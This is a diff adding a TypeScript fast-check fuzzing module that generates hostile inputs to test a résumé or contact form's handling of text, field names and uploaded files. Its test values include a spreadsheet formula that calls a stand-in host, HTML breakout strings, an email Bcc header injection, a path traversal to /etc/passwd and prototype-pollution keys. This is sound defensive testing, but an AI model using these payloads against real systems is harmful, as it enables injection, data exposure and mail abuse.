@@ -1,0 +1,114 @@
+import * as fc from 'fast-check';
+
+/** A word that stands in nearly everything that the fuzzer types, and must never stand in a log line. */
+export const CANARY = 'Zebedee';
+/** Markup that the fuzzer types, and that must never come back as markup. */
+export const CANARY_TAG = '<x-zebedee>';
+
+const HOSTILE = [
+  '',
+  ' ',
+  '\r\n\r\n',
+  '\n\n\nafter',
+  '\0',
+  '\ud800',
+  '\u202eevil\u202c',
+  '\ufeff',
+  '\u2028',
+  `=IMPORTXML("http://x.example/${CANARY}")`,
+  '\uff1d1+1',
+  '+919876543210',
+  `${CANARY_TAG}`,
+  `">${CANARY_TAG}<p "`,
+  `'${CANARY_TAG}'`,
+  `</textarea>${CANARY_TAG}`,
+  `</script>${CANARY_TAG}`,
+  `<!--${CANARY_TAG}-->`,
+  `${CANARY}\r\nBcc: victim@example.com`,
+  '{{title}}',
+  '{{body}}',
+  '{name}',
+  "$&$`$'$1",
+  '%00%ff%c0%af',
+  '../../../../etc/passwd',
+  '__proto__',
+  'constructor',
+  'toString',
+  '\u0660\u0665\u0660',
+  'a'.repeat(600),
+  `${CANARY} `.repeat(2500),
+  'é'.repeat(9000),
+  '👩🏽‍🚀'.repeat(200),
+];
+
+/** Any text that somebody may write into a field, hostile ones above all. */
+export const hostileText: fc.Arbitrary<string> = fc.oneof(
+  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
+  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }).map((text) => CANARY + text) },
+  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
+);
+
+/** Short names of fields, parameters and files. */
+export const hostileName: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom(
+    '',
+    'resume',
+    'name',
+    'email',
+    'message',
+    'website',
+    'seal',
+    '__proto__',
+    'constructor',
+    'plan',
+    'a"b',
+    'a\r\nb',
+    '\0',
+    '../x',
+    'é',
+    'n'.repeat(150),
+    'resume[]',
+    'RESUME',
+    CANARY,
+    CANARY_TAG,
+  ),
+  fc.string({ maxLength: 12 }),
+);
+
+/** File names of every kind. */
+export const fileName: fc.Arbitrary<string> = fc.oneof(
+  fc.constantFrom('cv.pdf', 'cv.docx', 'cv.doc', `${CANARY}.pdf`, 'CV.PDF', 'cv.pdf.exe', '.pdf', 'pdf', 'a/b\\c.pdf'),
+  fc.constantFrom('', '\0.pdf', `${CANARY_TAG}.pdf`, 'é\u202e.pdf', `${'n'.repeat(400)}.pdf`, 'a"b.pdf', '=1+1.pdf'),
+  fc.string({ maxLength: 20 }).map((name) => `${name}.pdf`),
+);
+
+const PDF = '%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF';
+const ZIP_END = 'PK\x05\x06' + '\0'.repeat(18);
+
+/** Bytes of a file as Latin-1 text: a résumé, something that begins like one, anything else, or a large one. */
+export const fileBytes: fc.Arbitrary<string> = fc.oneof(
+  { weight: 4, arbitrary: fc.constant(PDF) },
+  {
+    weight: 4,
+    arbitrary: fc.constantFrom(
+      '',
+      '%PDF',
+      'PK\x03\x04',
+      `PK\x03\x04${ZIP_END}`,
+      '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
+      PDF.slice(1),
+    ),
+  },
+  { weight: 2, arbitrary: fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes).toString('latin1')) },
+  { weight: 1, arbitrary: fc.constantFrom(100_000, 1_000_000).map((size) => PDF.padEnd(size)) },
+);
+
+/** Cuts bytes into at most six writes. */
+export const inWrites = (text: string): fc.Arbitrary<string[]> =>
+  fc.array(fc.nat(text.length), { maxLength: 5 }).map((cuts) => {
+    const at = [0, ...cuts.toSorted((a, b) => a - b), text.length];
+    return at.slice(1).map((end, index) => text.slice(at[index], end));
+  });
+
+/** UTF-8 text as it goes over the wire, in Latin-1. */
+export const wire = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
